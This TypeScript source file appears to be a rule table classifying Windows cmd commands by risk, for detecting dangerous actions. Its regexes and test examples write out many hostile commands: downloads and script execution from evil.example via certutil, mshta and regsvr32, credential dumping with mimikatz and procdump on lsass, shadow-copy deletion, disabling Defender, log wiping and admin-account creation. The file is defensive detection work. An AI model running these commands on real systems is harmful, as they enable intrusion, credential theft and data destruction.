/** Commands of Windows itself, the same in cmd and in PowerShell. */
import { act, type Effect } from "../../contract/effect.ts";
import { isSecretHive, registryEffect } from "./registry.ts";
import { FETCHED_CODE, gets, OTHER_MACHINE, OTHERS_SECRETS, SECRET_PLACES, sends, type WindowsRow } from "./row.ts";

/** Services that look for malware or record. */
const WATCHER =
  /defend|sense|mpssvc|wscsvc|eventlog|sysmon|falcon|csagent|sentinel|carbon|cb(?:defense|daemon)?|mcafee|symantec|sophos|cylance|kaspersky|avast|avg|eset|trend|tanium|splunk|winlogbeat|nxlog|elastic|osquery|wazuh|bits?defender/i;

const stops = ({ line }: { readonly line: string }): readonly Effect[] => [
  WATCHER.test(line) ? act("guard.stop") : act("service.stop"),
];

export const CMD: readonly WindowsRow[] = [
  {
    names: "reg",
    line: /^(?:add|delete|import|restore|load|copy)\b/i,
    does: ({ line }) => [/^import/i.test(line) ? act("start.program") : registryEffect(line)],
    match: [
      ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe /f", ["start.program"]],
      [
        'REG.EXE ADD "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1',
        ["guard.stop"],
      ],
      ["cmd /c reg add HKLM\\x /v a /d 1", ["machine.preferences"]],
    ],
    notMatch: ["reg query HKCU\\Software", "echo reg add"],
  },
  {
    names: "reg",
    line: /^(?:save|export)\b/i,
    does: ({ line }) => [isSecretHive(line) || /policy\\secrets|\\cache/i.test(line) ? OTHERS_SECRETS : SECRET_PLACES],
    match: [
      ["reg save HKLM\\sam C:\\t\\sam", ["secret.of-others"]],
      ["reg export HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa a.reg", ["secret.of-others"]],
    ],
    notMatch: ["reg query HKLM\\Software"],
  },
  {
    names: "reg",
    line: /^query\b.*(?:passw|PuTTY|WinSCP|VNC|Winlogon|\bpwd|credential|SNMP|AutoLogon)/i,
    does: [SECRET_PLACES],
    match: [["reg query HKLM /f password /t REG_SZ /s", ["secret.hunt"]]],
    notMatch: ["reg query HKLM\\Software\\Node.js"],
  },
  {
    names: "schtasks at",
    line: /\/create|\/change|^\d+:\d+|^\\\\/i,
    does: [act("schedule.create")],
    match: [
      ["schtasks /create /tn x /tr calc.exe /sc daily", ["schedule.create"]],
      ["at 13:20 /interactive cmd", ["schedule.create"]],
    ],
    notMatch: ["schtasks /query"],
  },
  {
    names: "schtasks",
    line: /\/delete/i,
    does: [act("schedule.delete")],
    match: [["schtasks /delete /tn x /f", ["schedule.delete"]]],
    notMatch: ["schtasks /query"],
  },
  {
    names: "sc",
    line: /\b(?:create|config|failure|sdset)\b/i,
    does: ({ line }) => [
      WATCHER.test(line) || /sdset\s+(?:scmanager|eventlog|vss)/i.test(line) ? act("guard.stop") : act("start.program"),
    ],
    match: [
      ['sc create x binPath= "cmd /c calc"', ["start.program"]],
      ["sc.exe config WinDefend start= disabled", ["guard.stop"]],
    ],
    notMatch: ["sc query", "sc qc spooler"],
  },
  {
    names: "sc net",
    line: /^(?:\\\\\S+ )?(?:stop|delete|pause)\b/i,
    does: stops,
    match: [
      ["sc stop spooler", ["service.stop"]],
      ["net stop WinDefend", ["guard.stop"]],
    ],
    notMatch: ["sc query", "net use"],
  },
  {
    names: "sc net",
    line: /^(?:\\\\\S+ )?start \S/i,
    does: [act("service.start")],
    match: [["net start spooler", ["service.start"]]],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\b.*\/add/i,
    does: [act("account.create")],
    match: [["net user evil P@ss /add", ["account.create", "account.change"]]],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\b.*\/del/i,
    does: [act("account.delete")],
    match: [["net user ann /delete", ["account.delete"]]],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\s+\S+\s+[^/\s]/i,
    does: [act("account.change")],
    match: [["net user ann NewPass1", ["account.change"]]],
    notMatch: ["net user ann"],
  },
  {
    names: "net net1",
    line: /^(?:local)?group\b.*\/add/i,
    does: [act("privilege.admin-grant")],
    match: [["net localgroup administrators evil /add", ["privilege.admin-grant"]]],
    notMatch: ["net localgroup"],
  },
  {
    names: "net net1",
    line: /^accounts\b.*\//i,
    does: [act("guard.system")],
    match: [["net accounts /maxpwage:unlimited", ["guard.system"]]],
    notMatch: ["net accounts"],
  },
  {
    names: "net net1",
    line: /^share\b.*=/i,
    does: [act("door.share")],
    match: [["net share x=C:\\x", ["door.share"]]],
    notMatch: ["net share"],
  },
  {
    names: "net net1",
    line: /^use\b.*(?:\\\\|\/user)/i,
    does: ({ line }) => [
      { do: "network", host: /\\\\([^\\\s]+)/.exec(line)?.[1]?.toLowerCase() ?? null, sends: true },
      OTHER_MACHINE,
    ],
    match: [["net use \\\\server\\share /user:a b", ["network.send", "run.remote"]]],
    notMatch: ["net use"],
  },
  {
    names: "vssadmin wbadmin wmic diskshadow ntbackup",
    line: /delete (?:shadows?|systemstatebackup|backup|catalog)|shadowcopy.*delete|resize shadowstorage/i,
    does: [act("backup.destroy")],
    match: [
      ["vssadmin delete shadows /all /quiet", ["backup.destroy"]],
      ["wmic shadowcopy delete", ["backup.destroy", "guard.evade"]],
      ["wbadmin delete systemstatebackup -keepVersions:0", ["backup.destroy"]],
    ],
    notMatch: ["vssadmin list shadows"],
  },
  {
    names: "vssadmin wmic diskshadow esentutl",
    line: /create shadow|shadowcopy call create|\/s\s|\/vss|ntds\.dit/i,
    does: [OTHERS_SECRETS],
    match: [
      ["vssadmin create shadow /for=C:", ["secret.of-others"]],
      ["esentutl /y /vss c:\\windows\\ntds\\ntds.dit /d x", ["secret.of-others"]],
    ],
    notMatch: ["vssadmin list shadows"],
  },
  {
    names: "bcdedit",
    line: /^\/?(?:set|delete|deletevalue|import)/i,
    does: [act("backup.destroy")],
    match: [["bcdedit /set {default} recoveryenabled no", ["backup.destroy"]]],
    notMatch: ["bcdedit"],
  },
  {
    names: "format diskpart cipher",
    line: /^(?:[a-z]:|\/s|\/w)/i,
    does: [act("disk.destroy-here")],
    match: [
      ["format C: /q", ["disk.destroy-here"]],
      ["cipher /w:C:", ["disk.destroy-here"]],
    ],
    notMatch: ["cipher /?"],
  },
  {
    names: "del erase rd rmdir deltree",
    line: /\/[sf]\b.*(?:[a-z]:\\(?:\*|windows|users|\$recycle|\s|$)|%(?:systemroot|windir|systemdrive|userprofile|programfiles)%|c:\\\*)/i,
    does: [act("disk.destroy-here")],
    match: [
      ["del /s /f /q C:\\*.*", ["disk.destroy-here"]],
      ["rd /s /q C:\\Windows", ["disk.destroy-here"]],
      ["rd /s /q %systemdrive%\\$RECYCLE.BIN", ["disk.destroy-here"]],
    ],
    notMatch: ["del a.txt", "rd /s /q node_modules", "del /f build\\x.obj"],
  },
  {
    names: "del erase",
    line: /prefetch|\.evtx|\\winevt|ConsoleHost_history|\\recent\\|\.log\b/i,
    does: [act("log.delete")],
    match: [["del C:\\Windows\\System32\\winevt\\Logs\\*.evtx", ["log.delete"]]],
    notMatch: ["del a.txt"],
  },
  {
    names: "del erase rd rmdir",
    line: /%te?mp%|\\temp\\|%appdata%|%userprofile%/i,
    does: [{ do: "delete", target: { path: "", certainty: "unknown" }, recursive: true }],
    match: [["del /f %temp%\\x", ["file.delete"]]],
    notMatch: ["del x"],
  },
  {
    names: "wevtutil",
    line: /^(?:cl|clear-log|sl|set-log|um)\b/i,
    does: [act("log.delete")],
    match: [["wevtutil cl System", ["log.delete"]]],
    notMatch: ["wevtutil el"],
  },
  {
    names: "auditpol",
    line: /\/(?:clear|remove|set|restore)/i,
    does: [act("audit.off")],
    match: [["auditpol /clear /y", ["audit.off"]]],
    notMatch: ["auditpol /get /category:*"],
  },
  {
    names: "fsutil",
    line: /usn deletejournal/i,
    does: [act("log.delete")],
    match: [["fsutil usn deletejournal /d c:", ["log.delete"]]],
    notMatch: ["fsutil fsinfo drives"],
  },
  {
    names: "fsutil",
    line: /behavior set|file setzerodata/i,
    does: [act("guard.system")],
    match: [["fsutil behavior set SymlinkEvaluation R2L:1", ["guard.system"]]],
    notMatch: ["fsutil fsinfo drives"],
  },
  {
    names: "fltmc sysmon sysmon64",
    line: /unload|^-u\b|^-c -/i,
    does: [act("guard.stop")],
    match: [
      ["fltmc unload SysmonDrv", ["guard.stop"]],
      ["sysmon -u", ["guard.stop"]],
    ],
    notMatch: ["fltmc"],
  },
  {
    names: "mpcmdrun",
    line: /-removedefinitions|-disable/i,
    does: [act("guard.stop")],
    match: [["MpCmdRun.exe -RemoveDefinitions -All", ["guard.stop"]]],
    notMatch: ["MpCmdRun.exe -Scan"],
  },
  {
    names: "dism",
    line: /disable-feature/i,
    does: ({ line }) => [/defend/i.test(line) ? act("guard.stop") : act("guard.system")],
    match: [["Dism /online /Disable-Feature /FeatureName:Windows-Defender", ["guard.stop"]]],
    notMatch: ["dism /online /get-features"],
  },
  {
    names: "netsh",
    line: /firewall|advfirewall/i,
    does: ({ line }) => (/show/i.test(line) ? [] : [act("firewall.change")]),
    match: [["netsh advfirewall set allprofiles state off", ["firewall.change"]]],
    notMatch: ["netsh interface show interface"],
  },
  {
    names: "netsh",
    line: /add helper/i,
    does: [act("start.program")],
    match: [["netsh add helper x.dll", ["start.program"]]],
    notMatch: ["netsh show helper"],
  },
  {
    names: "netsh pktmon",
    line: /trace start|^start\b|capture/i,
    does: [act("spy.traffic")],
    match: [
      ["netsh trace start capture=yes", ["spy.traffic"]],
      ["pktmon start --etw", ["spy.traffic"]],
    ],
    notMatch: ["netsh wlan show interfaces"],
  },
  {
    names: "netsh",
    line: /wlan show profile.*key=clear/i,
    does: [OTHERS_SECRETS],
    match: [["netsh wlan show profile name=x key=clear", ["secret.of-others"]]],
    notMatch: ["netsh wlan show profiles"],
  },
  {
    names: "netsh",
    line: /portproxy add|winhttp set proxy/i,
    does: [act("route.proxy")],
    match: [["netsh interface portproxy add v4tov4 listenport=1", ["route.proxy"]]],
    notMatch: ["netsh winhttp show proxy"],
  },
  {
    names:
      "certutil bitsadmin desktopimgdownldr mpcmdrun certreq esentutl expand extrac32 finger hh ieexec replace printbrm gup msxsl cmdl32 imewdbld",
    line: /https?:|ftp:|-urlcache|-verifyctl|-split|\/transfer|\/download|-post|-downloadfile|\\\\|@/i,
    does: ({ line }) =>
      /-post/i.test(line)
        ? [
            sends(line),
            { do: "read", target: { path: "/c/windows", certainty: "unknown" }, recursive: false, content: true },
          ]
        : [gets(line), act("package.install-file")],
    match: [
      ["certutil -urlcache -split -f https://evil.example/x x.exe", ["network.contact", "package.install-file"]],
      ["bitsadmin /transfer j https://evil.example/x C:\\x", ["network.contact", "package.install-file"]],
    ],
    notMatch: ["certutil -hashfile a.exe"],
  },
  {
    names: "certutil",
    line: /-addstore|-importpfx|-exportpfx/i,
    does: ({ line }) => [/export/i.test(line) ? OTHERS_SECRETS : act("tls.trust")],
    match: [["certutil -addstore root x.cer", ["tls.trust"]]],
    notMatch: ["certutil -store my"],
  },
  {
    names: "certutil",
    line: /-decode|-decodehex|-encode/i,
    does: [act("guard.file-attributes")],
    match: [["certutil -decode a.txt a.exe", ["guard.file-attributes"]]],
    notMatch: ["certutil -hashfile a"],
  },
  {
    names:
      "mshta rundll32 regsvr32 msiexec wmic cscript wscript installutil regasm regsvcs msbuild odbcconf pubprn cmstp control forfiles pcalua syncappvpublishingserver",
    line: /(?:script:|\/i:|\/format:["']?)?https?:\/\/|javascript:|vbscript:/i,
    does: ({ line }) => [gets(line), FETCHED_CODE],
    match: [
      ["mshta https://evil.example/x.hta", ["network.contact", "run.fetched", "guard.evade"]],
      ["regsvr32 /s /n /u /i:https://evil.example/x.sct scrobj.dll", ["network.contact", "run.fetched", "guard.evade"]],
      ["msiexec /q /i https://evil.example/x.msi", ["network.contact", "run.fetched", "package.install-file"]],
    ],
    notMatch: ["msiexec /?"],
  },
  {
    names: "msiexec",
    line: /\/[iyzp]\b|\/package/i,
    does: [act("package.install-file")],
    match: [["msiexec /q /i a.msi", ["package.install-file"]]],
    notMatch: ["msiexec /?"],
  },
  {
    names:
      "mshta rundll32 regsvr32 installutil regasm regsvcs msbuild odbcconf pubprn cmstp forfiles pcalua conhost gpscript hh wmic csc vbc jsc scriptrunner mavinject bginfo presentationhost syncappvpublishingserver protocolhandler wlrmdr infdefaultinstall diskshadow dnscmd xwizard te winrm tttracer createdump ieadvpack",
    line: /\S/,
    does: ({ line }) =>
      /^(?:\/node:\S+ )?(?:os|cpu|qfe|process|useraccount|service|product|csproduct|bios|computersystem|logicaldisk)\b[^"]*\b(?:get|list)\b/i.test(
        line,
      ) && !/format:/i.test(line)
        ? []
        : [act("guard.evade")],
    match: [
      ["rundll32 shell32.dll,Control_RunDLL x.dll", ["guard.evade"]],
      ["forfiles /p c:\\windows /m notepad.exe /c calc.exe", ["guard.evade"]],
      ["regsvr32 /s x.dll", ["guard.evade"]],
    ],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "wmic",
    line: /process call create|\/node:/i,
    does: ({ line }) => [
      { do: "network", host: /\/node:["']?([^"'\s]+)/i.exec(line)?.[1]?.toLowerCase() ?? "localhost", sends: true },
      OTHER_MACHINE,
      act("guard.evade"),
    ],
    match: [['wmic /node:server process call create "calc"', ["guard.evade", "network.send", "run.remote"]]],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "wmic",
    line: /MpPreference|Exclusion/i,
    does: [act("guard.stop")],
    match: [
      [
        'wmic /namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference call Add ExclusionPath="C:\\"',
        ["guard.stop", "guard.evade"],
      ],
    ],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "psexec psexec64 remcom plink pscp winrs wmiexec paexec",
    does: ({ line }) => [
      {
        do: "network",
        host: /(?:\\\\|@|-ssh\s+["']?|-batch\s+["']?)([\w.-]+)/i.exec(line)?.[1]?.toLowerCase() ?? null,
        sends: true,
      },
      OTHER_MACHINE,
      act("privilege.admin-rules"),
    ],
    match: [
      ["psexec \\\\server -s cmd", ["network.send", "run.remote", "privilege.admin-rules"]],
      ["plink -ssh host.example -l root -pw x id", ["network.send", "run.remote", "privilege.admin-rules"]],
    ],
    notMatch: ["ping server"],
  },
  {
    names:
      "mimikatz lazagne rubeus procdump procdump64 gsecdump pypykatz nanodump secretsdump fgdump pwdump pwdump7 xordump dumpert safetykatz sharpkatz kerbrute hashcat netripper",
    does: [OTHERS_SECRETS],
    match: [
      ['mimikatz "sekurlsa::logonpasswords"', ["secret.of-others"]],
      ["procdump -ma lsass.exe x.dmp", ["secret.of-others"]],
    ],
    notMatch: ["tasklist"],
  },
  {
    names: "ntdsutil dsdbutil cmdkey vaultcmd klist setspn rdrleakdiag nltest dcdiag",
    line: /ac i|ntds|ifm|snapshot|dsrm|\/add|\/generic|\/list|purge|-Q|-T|lsass|fullmemdmp/i,
    does: ({ line }) => [/dsrm|\/generic|\/add/i.test(line) ? act("privilege.admin-rules") : OTHERS_SECRETS],
    match: [
      ['ntdsutil "ac i ntds" ifm', ["secret.of-others"]],
      ['vaultcmd /listcreds:"Windows Credentials"', ["secret.of-others"]],
    ],
    notMatch: ["klist tickets"],
  },
  {
    names: "findstr find select-string",
    line: /passw|cpassword|credential|secret|api.?key/i,
    does: [SECRET_PLACES],
    match: [["findstr /s /i password *.xml", ["secret.hunt"]]],
    notMatch: ["findstr foo a.txt"],
  },
  {
    names: "type copy xcopy robocopy more",
    line: /unattend|sysprep|\\sam\b|ntds\.dit|Login Data|cookies\.sqlite|key[34]\.db|\\\.ssh\\|id_rsa|\\Credentials\\|\\Protect\\|web\.config|groups\.xml/i,
    does: [OTHERS_SECRETS],
    match: [
      ["type C:\\Windows\\Panther\\unattend.xml", ["secret.of-others"]],
      ['copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" x', ["secret.of-others"]],
    ],
    notMatch: ["type readme.txt"],
  },
  {
    names: "esentutl robocopy copy xcopy",
    line: /Login Data|Cookies|SAM\b|ntds|User Data/i,
    does: [OTHERS_SECRETS],
    match: [['esentutl /y "C:\\x\\User Data\\Default\\Login Data" /d y', ["secret.of-others"]]],
    notMatch: ["xcopy a b"],
  },
  {
    names: "copy xcopy move mklink robocopy echo",
    line: /Start Menu\\Programs\\Startup|\\Startup\\|XLSTART|\\Addins\\|\\spool\\prtprocs|wpbbin/i,
    does: [act("start.program")],
    match: [['copy x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"', ["start.program"]]],
    notMatch: ["copy a b"],
  },
  {
    names: "copy xcopy move robocopy",
    line: /(?:%SystemRoot%|%windir%|C:\\Windows)\\System32\\\w+\.(?:exe|dll)"?\s+(?:\S*\\)?\S+/i,
    does: [act("guard.evade")],
    match: [["copy C:\\Windows\\System32\\cmd.exe C:\\lsm.exe", ["guard.evade"]]],
    notMatch: ["copy a b"],
  },
  {
    names: "copy xcopy move robocopy",
    line: /\s"?(?:%SystemRoot%|%windir%|C:\\Windows|C:\\inetpub|%ProgramFiles%|C:\\Program Files)\S*"?(?:\s+\/\S+)*$/i,
    does: [act("start.program")],
    match: [
      ["copy evil.dll C:\\Windows\\System32\\", ["start.program"]],
      ["xcopy /y shell C:\\inetpub\\wwwroot", ["start.program"]],
    ],
    notMatch: ["copy C:\\Windows\\win.ini a.ini"],
  },
  {
    names: "takeown icacls cacls attrib",
    line: /\/grant|\/setowner|^\/f\b|\/f\s|[-+][rhs]\b|\/reset/i,
    does: ({ name }) => [name === "attrib" ? act("guard.file-attributes") : act("privilege.admin-rules")],
    match: [
      ["takeown /f C:\\x /r", ["privilege.admin-rules"]],
      ["icacls C:\\x /grant Everyone:F", ["privilege.admin-rules"]],
      ["attrib +h +s x", ["guard.file-attributes"]],
    ],
    notMatch: ["icacls C:\\x", "attrib"],
  },
  {
    names: "shutdown",
    line: /\/[rshpgl]\b|-[rshpl]\b/i,
    does: [act("machine.off")],
    match: [["shutdown /r /t 0", ["machine.off"]]],
    notMatch: ["shutdown /?"],
  },
  {
    names: "taskkill tskill",
    line: /\S/,
    does: ({ line }) => [WATCHER.test(line) ? act("guard.stop") : act("process.end-by-name")],
    match: [
      ["taskkill /f /im node.exe", ["process.end-by-name"]],
      ["taskkill /im MsMpEng-sense.exe", ["guard.stop"]],
    ],
    notMatch: ["tasklist"],
  },
  {
    names: "pnputil",
    line: /add-driver|-i\b|-a\b/i,
    does: [act("start.program")],
    match: [["pnputil /add-driver x.inf", ["start.program"]]],
    notMatch: ["pnputil /enum-drivers"],
  },
  {
    names: "appcmd",
    line: /dontlog:true|delete|set config/i,
    does: [act("guard.stop")],
    match: [['appcmd set config "x" /section:httplogging /dontLog:true', ["guard.stop"]]],
    notMatch: ["appcmd list site"],
  },
  {
    names: "rar winrar 7z makecab zip compress-archive",
    line: /-hp|-p\S|sam|ntds|%userprofile%|\$env:userprofile|\.hiv/i,
    does: [SECRET_PLACES],
    match: [["rar a -hpx out.rar %USERPROFILE%\\*.txt", ["secret.hunt"]]],
    notMatch: ["7z x a.7z"],
  },
  {
    names: "curl wget",
    line: /https?:/i,
    does: ({ line }) =>
      /(?:^|\s)(?:-d|--data\S*|-F|-T|--upload-file|-X\s*(?:POST|PUT))\b/i.test(line)
        ? [sends(line)]
        : [
            gets(line),
            ...(/(?:-o|-O|--output)\b/.test(line) && /\.(?:exe|dll|msi|bat|ps1|vbs|hta|scr|iso|zip)\b/i.test(line)
              ? [act("package.install-file")]
              : []),
          ],
    match: [["curl.exe -k https://evil.example/x.dll -o C:\\x.dll", ["network.contact", "package.install-file"]]],
    notMatch: ["curl --version"],
  },
  {
    names: "scp sftp ssh ftp tftp",
    line: /@|\S+:/i,
    does: ({ line }) => [
      { do: "network", host: /@?([\w.-]+):/.exec(line)?.[1]?.toLowerCase() ?? null, sends: true },
      OTHER_MACHINE,
    ],
    match: [["scp a user@host.example:/x", ["network.send", "run.remote"]]],
    notMatch: ["scp"],
  },
  {
    names: "powershell pwsh",
    line: /-e(?:x(?:ec(?:utionpolicy)?)?|p)\s+bypass|-w(?:indowstyle)?\s+h(?:idden)?\b|unrestricted/i,
    does: [act("guard.shell-off")],
    match: [
      ["powershell -ep bypass -file x.ps1", ["guard.shell-off"]],
      ["powershell -w hidden -c calc", ["guard.shell-off"]],
    ],
    notMatch: ["powershell -Command Get-Date"],
  },
  {
    names: "query qwinsta tscon",
    line: /dest:|\d+ \/dest|sesshijack/i,
    does: [OTHERS_SECRETS],
    match: [["tscon 2 /dest:rdp-tcp#55", ["secret.of-others"]]],
    notMatch: ["query user"],
  },
  {
    names: "pcalua explorer wt",
    line: /\\\\|https?:/i,
    does: [act("guard.evade")],
    match: [["pcalua -a \\\\server\\x.exe", ["guard.evade"]]],
    notMatch: ["explorer ."],
  },
];
